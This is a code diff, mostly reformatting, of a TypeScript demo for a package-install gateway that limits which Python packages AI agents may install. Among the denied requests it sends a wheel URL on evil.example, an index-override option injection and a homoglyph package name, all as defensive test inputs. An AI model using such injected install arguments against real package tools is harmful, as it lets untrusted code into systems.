@@ -19,9 +19,10 @@ const bold = (s: string) => (process.stdout.isTTY ? `\x1b[1m${s}\x1b[0m` : s);
 const step = (title: string) => console.log(`\n${bold(`== ${title}`)}`);
 
 // The full snapshot when the workspace has it; otherwise the subset that ships with the repository.
-const advisoryDir = [join(REPO_ROOT, "..", "shared", "data", "pypa-advisory-database"), join(REPO_ROOT, "test", "fixtures", "pypa-advisories")].find((d) =>
-  existsSync(join(d, "vulns")),
-)!;
+const advisoryDir = [
+  join(REPO_ROOT, "..", "shared", "data", "pypa-advisory-database"),
+  join(REPO_ROOT, "test", "fixtures", "pypa-advisories"),
+].find((d) => existsSync(join(d, "vulns")))!;
 
 const tool = async (gateway: Gateway, agentId: string, args: Record<string, unknown>) => {
   const started = Date.now();
@@ -38,7 +39,11 @@ const tool = async (gateway: Gateway, agentId: string, args: Record<string, unkn
   return undefined;
 };
 
-const indent = (s: string) => s.split("\n").map((l) => `         ${l}`).join("\n");
+const indent = (s: string) =>
+  s
+    .split("\n")
+    .map((l) => `         ${l}`)
+    .join("\n");
 
 const main = async () => {
   const work = await mkdtemp(join(tmpdir(), "package-guard-demo-"));
@@ -56,7 +61,11 @@ const main = async () => {
         defaultMaturity: "student",
         agents: { junior: "student", analyst: "intern" },
         // Inline tiers add to the shipped default whitelist (pandas, numpy, requests, …).
-        whitelist: { tiers: { student: [{ package: "pyyaml", version: ">=5.1,<7", category: "config", description: "YAML parser" }] } },
+        whitelist: {
+          tiers: {
+            student: [{ package: "pyyaml", version: ">=5.1,<7", category: "config", description: "YAML parser" }],
+          },
+        },
         python: toolConfig(),
         index: { url: index.url },
         scan: { scanner: "osv-db", osvDbDir: advisoryDir },
@@ -72,14 +81,20 @@ const main = async () => {
     step("An allowed install through the install_package tool");
     const installed = await tool(gateway, "junior", { package: "pandas>=2,<3", skill: "data-viz" });
     if (installed) {
-      const { stdout } = await run(installed.python, ["-c", "import pandas, numpy; print(f'pandas {pandas.__version__}, numpy {numpy.__version__} from {pandas.__file__}')"]);
+      const { stdout } = await run(installed.python, [
+        "-c",
+        "import pandas, numpy; print(f'pandas {pandas.__version__}, numpy {numpy.__version__} from {pandas.__file__}')",
+      ]);
       console.log(`imported from the skill's venv: ${stdout.trim()}`);
     }
 
     step("Denied: not whitelisted at the agent's maturity");
     await tool(gateway, "junior", { package: "requests", skill: "data-viz" });
     step("Denied: a hostile request (a direct URL)");
-    await tool(gateway, "junior", { package: "pandas @ https://evil.example/pandas-6.6.6-py3-none-any.whl", skill: "data-viz" });
+    await tool(gateway, "junior", {
+      package: "pandas @ https://evil.example/pandas-6.6.6-py3-none-any.whl",
+      skill: "data-viz",
+    });
     step("Denied: option injection and a homoglyph");
     await tool(gateway, "junior", { package: "-i http://evil.example/simple pandas", skill: "data-viz" });
     await tool(gateway, "junior", { package: "ｐａｎｄａｓ", skill: "data-viz" });
@@ -89,13 +104,25 @@ const main = async () => {
     await tool(gateway, "junior", { package: "pyyaml>=6,<7", skill: "config-tool" });
 
     step("The audit log's last records (packages.installations)");
-    const records = await operator.call<{ ts: string; source: string; agentId: string | null; requested: string | null; status: string; code: string | null; package: string | null; version: string | null }[]>(
-      "packages.installations",
-      { limit: 10 },
-    );
+    const records = await operator.call<
+      {
+        ts: string;
+        source: string;
+        agentId: string | null;
+        requested: string | null;
+        status: string;
+        code: string | null;
+        package: string | null;
+        version: string | null;
+      }[]
+    >("packages.installations", { limit: 10 });
     if (records.ok) {
-      for (const r of records.payload.reverse()) {
-        console.log(`  ${r.ts}  ${r.source.padEnd(4)} ${String(r.agentId ?? "-").padEnd(8)} ${r.status.padEnd(10)} ${(r.code ?? "").padEnd(20)} ${r.package ?? "-"}${r.version ? `==${r.version}` : ""}  <- ${JSON.stringify(r.requested)}`);
+      for (const r of records.payload.toReversed()) {
+        console.log(
+          `  ${r.ts}  ${r.source.padEnd(4)} ${String(r.agentId ?? "-").padEnd(8)} ${r.status.padEnd(10)} ` +
+            `${(r.code ?? "").padEnd(20)} ${r.package ?? "-"}${r.version ? `==${r.version}` : ""}  <- ` +
+            `${JSON.stringify(r.requested)}`,
+        );
       }
     } else console.log(records.error);
 
